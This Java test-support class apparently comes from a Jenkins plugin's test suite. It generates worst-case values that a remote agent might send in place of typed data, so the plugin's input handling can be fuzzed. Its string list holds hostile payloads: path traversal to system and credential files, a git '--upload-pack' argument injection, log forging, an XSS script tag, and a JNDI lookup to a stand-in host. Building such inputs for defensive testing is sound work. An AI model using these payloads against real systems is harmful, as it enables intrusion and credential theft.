package io.jenkins.plugins.minibuild.standin;

import java.lang.reflect.Array;
import java.lang.reflect.Field;
import java.lang.reflect.Modifier;
import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** The worst that an agent can send in place of a value of a type, made from the type alone. */
public final class WorstValues {
    private static final List<String> TEXTS = List.of(
            "../../../../config.xml",
            "/etc/passwd",
            "C:\\Windows\\system.ini",
            "-rf",
            "--upload-pack=touch /tmp/x",
            "a\0b",
            "a\nFinished: SUCCESS\u001b[31m",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil}",
            "\u202Egnp.exe",
            "x".repeat(2_000_000));

    private WorstValues() {}

    /** Answers of this type and of none, as {@link Forgery} takes them; a Throwable is thrown. */
    public static List<Object> of(Type type) {
        List<Object> all = new ArrayList<>(inside(type));
        all.add("a text".equals(typical(type)) ? 42L : "another type");
        all.add(List.of(1));
        all.add(new IllegalStateException("thrown on the agent"));
        all.add(new NullPointerException());
        all.add(new StackOverflowError());
        all.add(new NoClassDefFoundError("thrown/on/the/Agent"));
        return all;
    }

    /** In a field of this type. */
    private static List<Object> inside(Type type) {
        List<Object> all = new ArrayList<>();
        Class<?> raw = raw(type);
        if (raw == boolean.class) {
            return List.of(true, false);
        }
        if (raw == int.class) {
            return List.of(Integer.MIN_VALUE, -1, Integer.MAX_VALUE);
        }
        if (raw == long.class) {
            return List.of(Long.MIN_VALUE, -1L, Long.MAX_VALUE);
        }
        if (raw == double.class) {
            return List.of(Double.NaN, Double.NEGATIVE_INFINITY, Double.POSITIVE_INFINITY, -1.0, 1e300);
        }
        all.add(null);
        if (raw == Boolean.class) {
            all.addAll(List.of(true, false));
        } else if (raw == Integer.class) {
            all.addAll(inside(int.class));
        } else if (raw == Long.class) {
            all.addAll(inside(long.class));
        } else if (raw == Double.class) {
            all.addAll(inside(double.class));
        } else if (raw == String.class) {
            all.addAll(TEXTS);
        } else if (raw == byte[].class) {
            all.add(new byte[10_000_000]);
        } else if (raw.isEnum()) {
            all.addAll(List.of(raw.getEnumConstants()));
        } else if (List.class.isAssignableFrom(raw)) {
            Type element = ((ParameterizedType) type).getActualTypeArguments()[0];
            inside(element).stream()
                    .filter(WorstValues::isSmall)
                    .forEach(each -> all.add(Collections.singletonList(each)));
            all.add(List.of(typical(element), Map.of()));
            all.add(Collections.nCopies(10_001, typical(element)));
        } else if (Map.class.isAssignableFrom(raw)) {
            Type[] both = ((ParameterizedType) type).getActualTypeArguments();
            inside(both[0]).stream()
                    .filter(WorstValues::isSmall)
                    .forEach(each -> all.add(new HashMap<>(Collections.singletonMap(each, typical(both[1])))));
            inside(both[1]).stream()
                    .filter(WorstValues::isSmall)
                    .forEach(each -> all.add(new HashMap<>(Collections.singletonMap(typical(both[0]), each))));
            all.add(Map.of(1, List.of()));
        } else if (raw.isRecord()) {
            all.add(new Forgery.Forged(raw, Map.of()));
            for (RecordComponent component : raw.getRecordComponents()) {
                for (Object worst : inside(component.getGenericType())) {
                    Map<String, Object> fields = typicalFields(raw);
                    fields.put(component.getName(), worst);
                    all.add(new Forgery.Forged(raw, fields));
                }
            }
        }
        return all;
    }

    /** A text of 2 MB takes its time; in a field it is tried, in each place of a list it need not be. */
    private static boolean isSmall(Object value) {
        return !(value instanceof String text && text.length() > 1_000_000);
    }

    private static Map<String, Object> typicalFields(Class<?> raw) {
        Map<String, Object> fields = new LinkedHashMap<>();
        for (RecordComponent component : raw.getRecordComponents()) {
            fields.put(component.getName(), typical(component.getGenericType()));
        }
        return fields;
    }

    /** A value that an honest agent could send. */
    private static Object typical(Type type) {
        Class<?> raw = raw(type);
        if (raw == String.class) {
            return "";
        }
        if (raw.isRecord()) {
            return new Forgery.Forged(raw, typicalFields(raw));
        }
        if (List.class.isAssignableFrom(raw)) {
            return List.of();
        }
        if (Map.class.isAssignableFrom(raw)) {
            return Map.of();
        }
        if (raw.isEnum()) {
            return raw.getEnumConstants()[0];
        }
        if (raw.isArray()) {
            return Array.newInstance(raw.getComponentType(), 0);
        }
        if (raw == boolean.class || raw == Boolean.class) {
            return false;
        }
        if (raw == int.class || raw == Integer.class) {
            return 0;
        }
        return raw == double.class || raw == Double.class ? (Object) 0.0 : (Object) 0L;
    }

    /** The class of a type. */
    public static Class<?> raw(Type type) {
        return type instanceof ParameterizedType generic ? (Class<?>) generic.getRawType() : (Class<?>) type;
    }

    /** What can be done with a value that was let through: nothing of it fails. The size of its longest text. */
    public static int touch(Object value) throws ReflectiveOperationException {
        if (value == null) {
            return 0;
        }
        int longest = value instanceof String text ? text.length() : 0;
        value.hashCode();
        if (value instanceof Iterable<?> list) {
            for (Object each : list) {
                longest = Math.max(longest, touch(each));
            }
        } else if (value instanceof Map<?, ?> map) {
            for (Map.Entry<?, ?> each : map.entrySet()) {
                longest = Math.max(longest, Math.max(touch(each.getKey()), touch(each.getValue())));
            }
        } else if (value.getClass().isRecord()) {
            for (Field field : value.getClass().getDeclaredFields()) {
                if (!Modifier.isStatic(field.getModifiers())) {
                    field.setAccessible(true);
                    longest = Math.max(longest, touch(field.get(value)));
                }
            }
        }
        return longest;
    }
}
